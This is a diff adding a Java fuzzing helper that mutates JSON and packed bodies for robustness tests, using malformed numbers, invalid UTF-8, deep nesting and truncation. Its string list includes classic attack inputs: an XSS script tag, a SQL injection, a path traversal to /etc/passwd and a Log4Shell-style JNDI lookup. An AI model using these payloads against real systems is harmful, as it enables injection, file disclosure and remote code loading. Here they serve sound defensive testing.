@@ -1,0 +1,170 @@
+package io.nodepulse.commands.recordscrape;
+
+import static java.nio.charset.StandardCharsets.ISO_8859_1;
+import static java.nio.charset.StandardCharsets.UTF_8;
+
+import java.util.Arrays;
+import java.util.List;
+import java.util.function.UnaryOperator;
+import java.util.random.RandomGenerator;
+import java.util.regex.Matcher;
+import java.util.regex.Pattern;
+
+/**
+ * Spoils bodies in the ways that bugs and attackers do. Bodies are handled as ISO 8859-1, in which
+ * every byte is a character, so that what comes out need not be valid UTF-8.
+ */
+final class BodyMutator {
+
+    private static final Pattern NUMBER = Pattern.compile("(?<=:)-?[0-9][0-9.]*");
+    private static final Pattern STRING = Pattern.compile("\"[^\"]*\"");
+    private static final Pattern FIELD = Pattern.compile("\"[a-z_0-9]+\":[^,{}\\[\\]]+");
+    private static final Pattern VALUE = Pattern.compile("(?<=:)(\"[^\"]*\"|-?[0-9.]+)");
+
+    private static final List<String> NUMBERS =
+            List.of(
+                    "-1",
+                    "-0",
+                    "0",
+                    "1e999",
+                    "-1e999",
+                    "1e-999",
+                    "1E400",
+                    "NaN",
+                    "Infinity",
+                    "-Infinity",
+                    "9223372036854775807",
+                    "9223372036854775808",
+                    "-9223372036854775809",
+                    "9007199254740993",
+                    "1.7976931348623157e308",
+                    "4.9e-324",
+                    "0x10",
+                    "007",
+                    "1.",
+                    ".5",
+                    "+1",
+                    "1e",
+                    "9".repeat(390),
+                    "9".repeat(2_000),
+                    "0." + "1".repeat(390));
+
+    private static final List<String> STRINGS =
+            List.of(
+                    "\"\"",
+                    "\"<script>alert(1)</script>\"",
+                    "\"'; DROP TABLE servers; --\"",
+                    "\"../../etc/passwd\"",
+                    "\"${jndi:ldap://x/a}\"",
+                    "\"\\u0000\"",
+                    "\"\\ud800\"",
+                    "\"\\udc00\\ud800\"",
+                    "\"\\u202e\"",
+                    "\"\\x\"",
+                    "\"tab\there\"",
+                    "\"\u00c3\u0028\"",
+                    "\"\u00c0\u0080\"",
+                    "\"\u00ed\u00a0\u0080\"",
+                    "\"\u00f8\u0088\u0080\u0080\u0080\"",
+                    "\"\u00ff\u00fe\"",
+                    "\"" + "n".repeat(256) + "\"",
+                    "\"" + "n".repeat(257) + "\"",
+                    "\"" + "n".repeat(20_000) + "\"",
+                    "\"0000-00-00T00:00:00Z\"",
+                    "\"+999999999-12-31T23:59:59Z\"",
+                    "\"-999999999-01-01T00:00:00Z\"",
+                    "\"1970-01-01T00:00:00Z\"",
+                    "\"2026-02-30T25:61:61Z\"");
+
+    private static final List<String> OTHER_TYPES =
+            List.of("null", "true", "{}", "[]", "[[]]", "\"1\"", "{\"a\":1}", "[1,2]", "1", "tru");
+
+    private static final int MAX_DEPTH = 3_000;
+
+    private final RandomGenerator random;
+    private final List<UnaryOperator<String>> mutations =
+            List.of(
+                    body -> replaceOne(NUMBER, body, match -> oneOf(NUMBERS)),
+                    body -> replaceOne(STRING, body, match -> oneOf(STRINGS)),
+                    body -> replaceOne(VALUE, body, match -> oneOf(OTHER_TYPES)),
+                    body -> replaceOne(VALUE, body, match -> nest()),
+                    body -> replaceOne(FIELD, body, match -> match + "," + match),
+                    body -> replaceOne(FIELD, body, match -> "\"x\":1"),
+                    this::flipByte,
+                    this::removeSpan,
+                    this::repeatSpan,
+                    this::cut);
+
+    BodyMutator(RandomGenerator random) {
+        this.random = random;
+    }
+
+    /** The body with up to three things wrong. */
+    byte[] mutate(String body) {
+        String spoiled = new String(body.getBytes(UTF_8), ISO_8859_1);
+        for (int i = random.nextInt(4); i > 0; i--) {
+            spoiled = mutations.get(random.nextInt(mutations.size())).apply(spoiled);
+        }
+        return spoiled.getBytes(ISO_8859_1);
+    }
+
+    /** Packed bytes with one byte changed, or cut short. */
+    byte[] spoilPacked(byte[] packed) {
+        if (random.nextBoolean()) {
+            return Arrays.copyOf(packed, random.nextInt(packed.length));
+        }
+        byte[] spoiled = packed.clone();
+        spoiled[random.nextInt(spoiled.length)] ^= (byte) random.nextInt(1, 256);
+        return spoiled;
+    }
+
+    private String replaceOne(Pattern pattern, String body, UnaryOperator<String> replacement) {
+        Matcher matcher = pattern.matcher(body);
+        long count = matcher.results().count();
+        if (count == 0) {
+            return body;
+        }
+        matcher.reset();
+        for (long i = random.nextLong(count); i >= 0; i--) {
+            matcher.find();
+        }
+        return body.substring(0, matcher.start())
+                + replacement.apply(matcher.group())
+                + body.substring(matcher.end());
+    }
+
+    private String oneOf(List<String> values) {
+        return values.get(random.nextInt(values.size()));
+    }
+
+    private String nest() {
+        int depth = random.nextInt(1, MAX_DEPTH);
+        return random.nextBoolean()
+                ? "[".repeat(depth) + "]".repeat(depth)
+                : "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
+    }
+
+    private String flipByte(String body) {
+        if (body.isEmpty()) {
+            return body;
+        }
+        int at = random.nextInt(body.length());
+        return body.substring(0, at) + (char) random.nextInt(256) + body.substring(at + 1);
+    }
+
+    private String removeSpan(String body) {
+        int start = random.nextInt(body.length() + 1);
+        int end = Math.min(body.length(), start + random.nextInt(1, 40));
+        return body.substring(0, start) + body.substring(end);
+    }
+
+    private String repeatSpan(String body) {
+        int start = random.nextInt(body.length() + 1);
+        int end = Math.min(body.length(), start + random.nextInt(1, 200));
+        return body.substring(0, end) + body.substring(start);
+    }
+
+    private String cut(String body) {
+        return body.substring(0, random.nextInt(body.length() + 1));
+    }
+}
